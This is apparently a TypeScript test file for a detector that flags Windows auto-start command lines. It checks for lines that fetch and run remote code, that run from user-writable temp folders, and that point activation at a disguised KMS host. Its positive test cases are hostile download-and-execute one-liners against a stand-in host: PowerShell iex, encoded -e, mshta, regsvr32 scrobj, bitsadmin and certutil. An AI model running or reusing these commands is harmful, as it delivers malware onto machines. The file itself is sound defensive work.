// Command lines that Windows starts by itself: fetch and run, folders for anybody's data, activation in disguise.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { fetchesAndRuns, lookAtCommand } from '../../../formats/activation-script/command.ts';

const look = (line: string) => lookAtCommand(line, ['kms.corp.example']);

test('a text that is fetched and run', () => {
  const encoded = Buffer.from('iwr https://x.example/a | iex', 'utf16le').toString('base64');
  for (const line of [
    'powershell -c "irm https://x.example/a | iex"',
    'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://x.example/a\')"',
    `powershell -e ${encoded}`,
    'mshta https://x.example/a.hta',
    'regsvr32 /s /n /i:http://x.example/a.sct scrobj.dll',
    'cmd /c curl -s https://x.example/get -o %temp%\\a.cmd & %temp%\\a.cmd',
    'cmd /c bitsadmin /transfer j https://x.example/f.exe C:\\ProgramData\\b.exe & start C:\\ProgramData\\b.exe',
    'cmd /c certutil -urlcache -f https://x.example/a.bin c.exe && c.exe /S',
    "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://x.example/d','C:\\d.exe'); Start-Process C:\\d.exe\"",
  ]) {
    assert.ok(look(line).fetches, line);
  }
  for (const line of [
    'powershell -File C:\\Setup\\a.ps1',
    'curl -o C:\\a.zip https://x.example/a.zip',
    'cmd /c curl -o C:\\a.exe https://x.example/a.exe & echo done',
    'cmd /c certutil -hashfile C:\\a.exe & C:\\a.exe',
    '"C:\\Program Files\\Vendor\\update.exe" /url:https://x.example',
    'msiexec /i https://x.example/a.msi',
  ]) {
    assert.not.ok(look(line).fetches, line);
  }
});

// Each would not end in the life of a machine if every word were tried behind every other one.
test('long lines of the same words are read once', () => {
  const long = (unit: string) => unit.repeat(100_000);
  for (const text of [
    long('irm |'),
    long('regsvr32 '),
    long('rundll32 '),
    long('iex '),
    `${long('curl ')}${'https://'.repeat(9)}${long('a.')}`,
  ])
    assert.not.ok(fetchesAndRuns(text), text.slice(0, 20));
  assert.ok(fetchesAndRuns(`${long('irm |')}iex`));
  assert.ok(fetchesAndRuns('curl https://x.example/a -o a.exe\n'.repeat(1001)), 'what so many fetch is not followed, and not believed');
});

test('folders for anybody’s data', () => {
  for (const line of [
    'C:\\Users\\Public\\a.exe',
    '"%TEMP%\\a.cmd" x',
    'c:/windows/temp/a.exe',
    '%windir%\\Temp\\a.exe',
    '\\Users\\a\\AppData\\Local\\Temp\\x.exe',
  ])
    assert.ok(look(line).fromData, line);
  for (const line of [
    'C:\\Program Files\\a\\a.exe',
    'C:\\ProgramData\\Vendor\\a.exe',
    '%windir%\\system32\\a.exe',
    'a.exe C:\\Windows\\Temp\\log',
  ])
    assert.not.ok(look(line).fromData, line);
});

test('activation: a listed host passes, another and a disguised one do not', () => {
  assert.equal(look('cscript slmgr.vbs /skms kms.corp.example').signs, []);
  assert.ok(look('cmd /c slm^gr.vbs /sk^ms 203.0.113.5').signs.length > 0);
});

test.run();
